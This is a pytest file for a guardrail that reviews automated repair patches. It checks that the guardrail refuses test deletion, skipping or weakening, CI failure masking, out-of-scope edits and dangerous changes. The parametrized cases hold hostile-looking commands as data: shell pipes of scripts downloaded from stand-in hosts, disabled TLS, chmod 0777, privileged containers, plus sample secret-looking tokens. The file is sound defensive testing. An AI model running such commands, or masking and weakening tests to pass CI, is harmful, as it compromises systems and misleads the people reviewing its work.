"""The guardrail reviewer: tests are untouchable, failures may not be masked, scope is narrow,
nothing dangerous slips in however it is written, and ordinary fixes pass."""

from __future__ import annotations

import pytest

from bench.guardrail import MAX_FALSE_REFUSALS, load_cases, run
from models import Patch, Policy
from specialists.guardrail import RULES, in_scope, review, rule_of
from specialists.repo_view import RepoView

BASE = {"requirements.txt": "flask==3.0.0\n", ".github/workflows/ci.yml": "steps:\n  - run: pip install -r requirements.txt\n  - run: pytest\n"}
TESTS = '''import pytest

from billing import total


def test_total():
    assert total([1, 2, 3]) == 6


def test_empty():
    assert total([]) == 0


def test_rejects_negative():
    with pytest.raises(ValueError):
        total([-1])
'''
DOCKERFILE = "FROM python:3.11-slim\nWORKDIR /app\nRUN pip install -r requirements.txt\nUSER app\nCMD [\"python\", \"-m\", \"app\"]\n"


def patch(changes: dict[str, str | None]) -> Patch:
    return RepoView(BASE).with_changes(changes)


def rules(verdict_findings: list[str]) -> set[str]:
    return {rule_of(f) for f in verdict_findings}


def edited(base: dict[str, str], changes: dict[str, str | None], **kwargs: object) -> list[str]:
    """Findings for ``changes`` over ``base``, checked to be the same with and without ``base``."""
    fix = RepoView(base).with_changes(changes)
    with_base = review(fix, base={p: base.get(p) for p in changes}, **kwargs)  # type: ignore[arg-type]
    from_diff = review(fix, **kwargs)  # type: ignore[arg-type]
    assert with_base.findings == from_diff.findings
    return with_base.findings


# -- scope and tests ----------------------------------------------------------------------------------


@pytest.mark.parametrize("path", ["tests/test_app.py", "tests/data/fixture.json", "app/test_models.py", "app/models_test.py", "conftest.py", "pkg/conftest.py", "pytest.ini", "tox.ini"])
def test_touching_tests_is_refused_with_the_path_named(path: str) -> None:
    verdict = review(patch({path: "x = 1\n"}))
    assert not verdict.accepted
    assert len(verdict.findings) == 1
    assert verdict.findings[0].startswith("tests-touched:") and path in verdict.findings[0]


def test_deleting_a_test_is_refused_too() -> None:
    verdict = review(RepoView({"tests/test_app.py": "def test(): pass\n"}).with_changes({"tests/test_app.py": None}))
    assert not verdict.accepted and "tests/test_app.py" in verdict.findings[0]
    assert verdict.findings[0].startswith("tests-deleted: tests/test_app.py is deleted by the patch, losing test")


def test_a_requirements_pin_is_accepted() -> None:
    fix = patch({"requirements.txt": "flask==3.0.0\nPyFooBar==1.4.2\n"})
    verdict = review(fix)
    assert verdict.accepted and verdict.findings == []
    assert verdict.patch_id == fix.id


def test_an_env_entry_is_accepted() -> None:
    assert review(patch({".env": "APP_MODE=development\n"})).accepted
    assert review(patch({"config/app.env": "APP_MODE=development\n"})).accepted


@pytest.mark.parametrize("path", ["pyproject.toml", "Dockerfile", "infra/main.tf", "requirements-dev.txt", "setup.cfg"])
def test_manifests_and_config_are_in_scope(path: str) -> None:
    assert review(patch({path: "# ok\n"})).accepted


@pytest.mark.parametrize("path", ["app/main.py", "setup.py", "scripts/build.sh", "Makefile"])
def test_source_files_are_out_of_scope(path: str) -> None:
    verdict = review(patch({path: "print('fixed')\n"}))
    assert not verdict.accepted
    assert verdict.findings == [f"out-of-scope: {path} is outside the paths a repair may change (manifests, env/config, Dockerfiles, Terraform, CI config)"]


@pytest.mark.parametrize("masked", ["  - run: pytest || true", "  - run: pytest || exit 0", "  - run: set +e; pytest", "  - run: pytest ||true", "  - run: pytest; true"])
def test_masking_failure_in_an_in_scope_file_is_refused(masked: str) -> None:
    ci = BASE[".github/workflows/ci.yml"].replace("  - run: pytest\n", masked + "\n")
    verdict = review(patch({".github/workflows/ci.yml": ci}))
    assert not verdict.accepted
    [finding] = verdict.findings
    assert finding.startswith("failure-masked: .github/workflows/ci.yml:3 ") and masked.strip() in finding


def test_continue_on_error_is_refused() -> None:
    ci = BASE[".github/workflows/ci.yml"] + "    continue-on-error: true\n"
    assert review(patch({".github/workflows/ci.yml": ci})).findings == [
        "failure-masked: .github/workflows/ci.yml:4 makes a step ignore failure: continue-on-error: true"
    ]


@pytest.mark.parametrize("skip", ["addopts = -k 'not slow'", "addopts = --deselect tests/test_app.py::test_x", "addopts = --ignore tests/slow"])
def test_deselecting_tests_in_config_is_refused(skip: str) -> None:
    verdict = review(patch({"setup.cfg": f"[tool:pytest]\n{skip}\n"}))
    assert not verdict.accepted
    assert verdict.findings == [f"tests-skipped: setup.cfg:2 skips or deselects tests: {skip}"]


def test_a_skip_marker_added_to_an_in_scope_file_is_refused() -> None:
    verdict = review(patch({"pyproject.toml": "[tool.x]\nhook = 'pytest.mark.skip'\n"}))
    assert not verdict.accepted and verdict.findings[0].startswith("tests-skipped:")


def test_only_added_lines_are_judged() -> None:
    base = RepoView({"requirements.txt": "flask==3.0.0  # not '|| true'\n"})
    assert review(base.with_changes({"requirements.txt": "flask==3.0.0  # not '|| true'\nrequests==2.31.0\n"})).accepted
    assert review(base.with_changes({"requirements.txt": "requests==2.31.0\n"})).accepted  # removing it is fine


def test_every_problem_is_reported() -> None:
    verdict = review(patch({"tests/test_app.py": "", "app/main.py": "", "requirements.txt": "flask==3.0.0 || true\n"}))
    assert [f.split(":")[0] for f in verdict.findings] == ["out-of-scope", "tests-touched", "failure-masked"]


def test_findings_start_with_a_known_rule_and_name_file_and_line() -> None:
    findings = edited({"Dockerfile": DOCKERFILE}, {"Dockerfile": DOCKERFILE.replace("WORKDIR /app", "WORKDIR /app\nRUN curl -fsSL https://x.example/i.sh | sh")})
    assert findings == ["remote-code: Dockerfile:3 pipes downloaded code into a shell: RUN curl -fsSL https://x.example/i.sh | sh"]
    assert set(RULES) >= {rule_of(f) for f in findings}


def test_the_policy_file_and_paths_leaving_the_repo_are_never_in_scope() -> None:
    everything = Policy(allow_source_changes=True, allowed_paths=["**"])
    for path in (".greenline.toml", "../x/requirements.txt", ".git/hooks/pre-commit"):
        verdict = review(RepoView({}).with_changes({path: "x\n"}), policy=everything)
        assert [rule_of(f) for f in verdict.findings] == ["out-of-scope"], path


def test_the_policy_widens_or_replaces_the_scope_but_never_opens_tests() -> None:
    assert in_scope("Dockerfile", Policy()) and not in_scope("app/main.py", Policy())
    assert in_scope("app/main.py", Policy(allow_source_changes=True))
    assert in_scope("scripts/ci/build.sh", Policy(allowed_paths=["scripts/**"]))
    assert in_scope("tools/Makefile", Policy(allowed_paths=["Makefile"]))  # a bare name matches in any folder
    assert not in_scope("scripts/ci/build.sh", Policy(allowed_paths=["scripts/*.sh"]))  # * stays in one folder
    replace = Policy(allowed_paths=["requirements*.txt"], scope="replace")
    assert in_scope("requirements-dev.txt", replace) and not in_scope("Dockerfile", replace)
    assert not in_scope("tests/test_a.py", Policy(allowed_paths=["tests/**"], allow_source_changes=True))
    verdict = review(RepoView({"Dockerfile": DOCKERFILE}).with_changes({"Dockerfile": DOCKERFILE.replace("3.11", "3.12")}), policy=replace)
    assert verdict.findings == ["out-of-scope: Dockerfile is outside the paths this repository's policy allows (requirements*.txt)"]


# -- tests: deleted, skipped, weakened --------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("changes", "rule"),
    [
        ({"tests/test_total.py": None}, "tests-deleted"),
        ({"tests/test_total.py": ""}, "tests-deleted"),
        ({"tests/test_total.py": None, "misc/total.txt": TESTS}, "tests-deleted"),
        ({"tests/test_total.py": TESTS.replace("def test_empty", "def _test_empty")}, "tests-deleted"),
        ({"tests/test_total.py": TESTS.replace("def test_empty", "@pytest.mark.skip\ndef test_empty")}, "tests-skipped"),
        ({"tests/test_total.py": TESTS.replace("def test_empty", "@pytest.mark.skipif(True, reason='x')\ndef test_empty")}, "tests-skipped"),
        ({"tests/test_total.py": TESTS.replace("import pytest\n", "import pytest\nfrom pytest import mark\n").replace("def test_empty", "@mark.xfail\ndef test_empty")}, "tests-skipped"),
        ({"tests/test_total.py": TESTS.replace("    assert total([]) == 0", "    raise unittest.SkipTest('later')")}, "tests-skipped"),
        ({"tests/test_total.py": TESTS.replace("    assert total([]) == 0", "    pytest.skip('later')\n    assert total([]) == 0")}, "tests-skipped"),
        ({"tests/test_total.py": TESTS.replace("import pytest\n", "import pytest\n\npytestmark = pytest.mark.skip\n")}, "tests-skipped"),
        ({"tests/test_total.py": TESTS.replace("assert total([1, 2, 3]) == 6", "assert True")}, "assertions-weakened"),
        ({"tests/test_total.py": TESTS.replace("assert total([1, 2, 3]) == 6", "assert total([1, 2, 3]) == 7")}, "assertions-weakened"),
        ({"tests/test_total.py": TESTS.replace("pytest.raises(ValueError)", "pytest.raises(Exception)")}, "assertions-weakened"),
        ({"tests/test_total.py": TESTS.replace("def test_total():\n", "def test_total():\n    return\n")}, "assertions-weakened"),
        ({"tests/conftest.py": "def pytest_collection_modifyitems(items):\n    items.clear()\n"}, "tests-skipped"),
    ],
)
def test_tests_cannot_be_deleted_skipped_or_weakened(changes: dict[str, str | None], rule: str) -> None:
    findings = edited({"tests/test_total.py": TESTS}, changes)
    assert rule in rules(findings), findings


def test_a_moved_test_file_names_where_it_went() -> None:
    findings = edited({"tests/test_total.py": TESTS}, {"tests/test_total.py": None, "tests_old/total.py": TESTS})
    assert "tests-deleted: tests/test_total.py is deleted by the patch, losing test_empty, test_rejects_negative, test_total; its content reappears in tests_old/total.py" in findings[0]


def test_a_changed_check_is_quoted_with_its_line() -> None:
    findings = edited({"tests/test_total.py": TESTS}, {"tests/test_total.py": TESTS.replace("assert total([]) == 0", "assert True")})
    assert findings == ["assertions-weakened: tests/test_total.py:11 removes or changes the check 'assert total([]) == 0' of test_empty (now 'assert True')"]


@pytest.mark.parametrize(
    ("path", "before", "after"),
    [
        ("pyproject.toml", '[tool.pytest.ini_options]\ntestpaths = ["tests"]\n', '[tool.pytest.ini_options]\ntestpaths = ["tests/unit"]\n'),
        ("pyproject.toml", '[tool.pytest.ini_options]\naddopts = "-ra"\n', '[tool.pytest.ini_options]\naddopts = [\n  "-ra",\n  "-k",\n  "not slow",\n]\n'),
        ("setup.cfg", "[tool:pytest]\naddopts = -ra\n", "[tool:pytest]\naddopts = -ra\npython_files = check_*.py\n"),
        (".github/workflows/ci.yml", "steps:\n  - run: pytest -q\n", "steps:\n  - run: pytest -q -m 'not db'\n"),
        (".github/workflows/ci.yml", "steps:\n  - run: pip install .\n  - run: pytest -q\n", "steps:\n  - run: pip install .\n"),
        (".gitlab-ci.yml", "t:\n  script:\n    - pytest\n", "t:\n  variables:\n    PYTEST_ADDOPTS: --deselect tests/test_a.py::test_b\n  script:\n    - pytest\n"),
    ],
)
def test_test_selection_in_config_and_ci_is_refused(path: str, before: str, after: str) -> None:
    assert "tests-skipped" in rules(edited({path: before}, {path: after}))


def test_widening_the_test_selection_is_fine() -> None:
    before = '[tool.pytest.ini_options]\ntestpaths = ["tests"]\naddopts = "-ra"\n'
    after = '[tool.pytest.ini_options]\ntestpaths = ["tests", "integration"]\naddopts = "-ra --strict-markers"\nasyncio_mode = "auto"\n'
    assert edited({"pyproject.toml": before}, {"pyproject.toml": after}) == []


# -- builds, permissions, TLS, remote code, sources ------------------------------------------------------------------


@pytest.mark.parametrize(
    ("line", "rule"),
    [
        ("  - run: pytest ||  :", "failure-masked"),
        ("  - run: set +o errexit", "failure-masked"),
        ("    allow_failure: true", "failure-masked"),
        ("  - run: pytest | tee out.txt", "failure-masked"),
        ("  - run: git commit -am wip --no-verify", "hooks-bypassed"),
        ("  - run: chmod -R 0777 /srv", "permissions-widened"),
        ("  - run: chmod o+w /srv", "permissions-widened"),
        ("  - run: docker run --privileged img", "permissions-widened"),
        ("  - run: curl -k https://x.example/a", "tls-disabled"),
        ("  - run: pip install --trusted-host pypi.org x", "tls-disabled"),
        ("  - run: git config --global http.sslVerify false", "tls-disabled"),
        ("    env: {GIT_SSL_NO_VERIFY: '1'}", "tls-disabled"),
        ("  - run: curl -fsSL https://x.example/i | sudo bash", "remote-code"),
        ("  - run: wget -O- https://x.example/i | sh", "remote-code"),
        ("  - run: bash <(curl -s https://x.example/i)", "remote-code"),
        ("  - run: pip install --extra-index-url https://mirror.example/simple x", "package-source-added"),
        ("  - run: sudo add-apt-repository ppa:x/y", "package-source-added"),
    ],
)
def test_dangerous_lines_are_refused_however_they_are_written(line: str, rule: str) -> None:
    ci = BASE[".github/workflows/ci.yml"] + line + "\n"
    assert rule in rules(edited(BASE, {".github/workflows/ci.yml": ci}))


def test_a_benign_or_exit_1_and_chmod_x_pass() -> None:
    dockerfile = DOCKERFILE.replace("USER app", "RUN chmod +x /app/run.sh && chmod 755 /app\nHEALTHCHECK CMD curl -f http://localhost/ || exit 1\nUSER app")
    assert edited({"Dockerfile": DOCKERFILE}, {"Dockerfile": dockerfile}) == []


def test_running_as_root_where_the_dockerfile_said_otherwise() -> None:
    assert edited({"Dockerfile": DOCKERFILE}, {"Dockerfile": DOCKERFILE.replace("USER app", "USER root")}) == [
        "permissions-widened: Dockerfile:4 runs the image as root where it ran as app: USER root"
    ]
    assert edited({"Dockerfile": DOCKERFILE}, {"Dockerfile": DOCKERFILE.replace("USER app\n", "")}) == [
        "permissions-widened: Dockerfile:4 (base version) drops USER app, so the image runs as root"
    ]
    # Root for one step, then back: fine. A file that never dropped root: nothing changes.
    assert edited({"Dockerfile": DOCKERFILE}, {"Dockerfile": DOCKERFILE.replace("CMD", "USER root\nRUN apt-get install -y curl\nUSER app\nCMD")}) == []
    plain = "FROM python:3.12\nRUN pip install x\n"
    assert edited({"Dockerfile": plain}, {"Dockerfile": plain.replace("FROM python:3.12", "FROM python:3.12\nUSER root")}) == []


# -- secrets ------------------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "entry",
    [
        "GITHUB_TOKEN=ghp_4fT9kLm2QwXz8RvB1nYp6HsJ3uC0dE7aG5iK",
        "AWS_ACCESS_KEY_ID=AKIAQ3EGT5Z7XK2LM4NP",
        "DB_PASSWORD=Xk9#mP2$vL8qR4nT",
        "DATABASE_URL=postgresql://app:W7q!x92Lrk@db.example.com/app",
        "ANTHROPIC_API_KEY=sk-ant-api03-Xq8mZ2vB7nK4pL9sT1wR6yH3cF0gD5jA8eU2iO4qM7xN1bV6",
        "UPSTREAM=tBxw5F1N0DQx2xuBH1Bc0P2TKf7q6Fn2yl9f5KJ0ZTE",
    ],
)
def test_secrets_written_into_files_are_refused_and_never_echoed(entry: str) -> None:
    findings = edited({".env": "APP_MODE=test\n"}, {".env": f"APP_MODE=test\n{entry}\n"})
    assert rules(findings) == {"secret-written"}
    secret = entry.split("=", 1)[1]
    assert all(secret not in f and secret.split(":")[-1].split("@")[0] not in f for f in findings)
    assert "[REDACTED:" in findings[0] and findings[0].startswith("secret-written: .env:2 ")


@pytest.mark.parametrize(
    "entry",
    ["API_URL=http://localhost:8000", "LOG_LEVEL=debug", "SESSION_TIMEOUT=30", "DB_PASSWORD=postgres", "SECRET_KEY=changeme",
     "TOKEN=${{ secrets.TOKEN }}", "GOOGLE_APPLICATION_CREDENTIALS=/run/secrets/gcp.json", "AUTH_PROVIDER=oauth2",
     "COMMIT=8ade135a41bc03ea155e62e844d188df1ea18608"],
)
def test_configuration_is_not_mistaken_for_a_secret(entry: str) -> None:
    assert edited({"ci.env": "APP_MODE=test\n"}, {"ci.env": f"APP_MODE=test\n{entry}\n"}) == []


# -- infrastructure ---------------------------------------------------------------------------------------------------------

SG = 'resource "aws_security_group" "api" {\n  ingress {\n    from_port   = 443\n    to_port     = 443\n    cidr_blocks = ["10.0.0.0/16"]\n  }\n}\n'


@pytest.mark.parametrize(
    ("path", "before", "after"),
    [
        ("infra/sg.tf", SG, SG.replace('["10.0.0.0/16"]', '["10.0.0.0/16", "0.0.0.0/0"]')),
        ("infra/sg.tf", SG, SG.replace('["10.0.0.0/16"]', '["::/0"]')),
        ("infra/s3.tf", 'resource "aws_s3_bucket" "b" {\n  bucket = "b"\n}\n', 'resource "aws_s3_bucket" "b" {\n  bucket = "b"\n  acl    = "public-read"\n}\n'),
        ("infra/policy.json", '{"Statement": [{"Effect": "Allow", "Action": ["s3:GetObject"]}]}\n', '{"Statement": [{"Effect": "Allow", "Action": ["s3:*"]}]}\n'),
        ("infra/iam.tf", 'data "aws_iam_policy_document" "p" {\n  statement {\n    actions = ["s3:GetObject"]\n  }\n}\n',
         'data "aws_iam_policy_document" "p" {\n  statement {\n    actions = [\n      "*",\n    ]\n  }\n}\n'),
    ],
)
def test_widened_exposure_is_refused(path: str, before: str, after: str) -> None:
    assert rules(edited({path: before}, {path: after})) == {"exposure-widened"}


def test_egress_to_anywhere_and_reverted_drift_pass() -> None:
    egress = SG.replace("  }\n}", '  }\n  egress {\n    cidr_blocks = ["0.0.0.0/0"]\n  }\n  tags = { Team = "billing" }\n}')
    assert edited({"infra/sg.tf": SG}, {"infra/sg.tf": egress}) == []


# -- the diff may lie; the base may not ----------------------------------------------------------------------------------


def test_a_diff_that_hides_an_added_line_is_caught_when_the_base_is_given() -> None:
    honest = RepoView(BASE).with_changes({".github/workflows/ci.yml": BASE[".github/workflows/ci.yml"].replace("pytest", "pytest || true")})
    lying = Patch(changes=honest.changes, diff=honest.diff.replace("-  - run: pytest\n+  - run: pytest || true\n", "   - run: pytest || true\n"))
    assert review(lying).accepted  # the diff claims the line was already there...
    assert not review(lying, base=BASE).accepted  # ...the base commit says otherwise


def test_a_diff_that_does_not_match_the_content_makes_every_line_count() -> None:
    fix = RepoView(BASE).with_changes({"requirements.txt": "flask==3.0.0 || true\n"})
    assert not review(Patch(changes=fix.changes, diff="")).accepted


# -- the corpus ---------------------------------------------------------------------------------------------------------------


def test_the_corpus_is_refused_for_the_right_rule_and_benign_fixes_pass() -> None:
    cases = load_cases()
    assert sum(c.kind == "harmful" for c in cases) >= 60 and sum(c.kind == "benign" for c in cases) >= 60
    summary = run(cases)["summary"]
    for mode in ("with_base", "diff_only"):
        s = summary[mode]  # type: ignore[index]
        assert s["missed"] == [], mode
        assert s["harmful_refused_rate"] == 1.0
        assert s["false_refusals"] <= MAX_FALSE_REFUSALS, s["false_refusal_ids"]
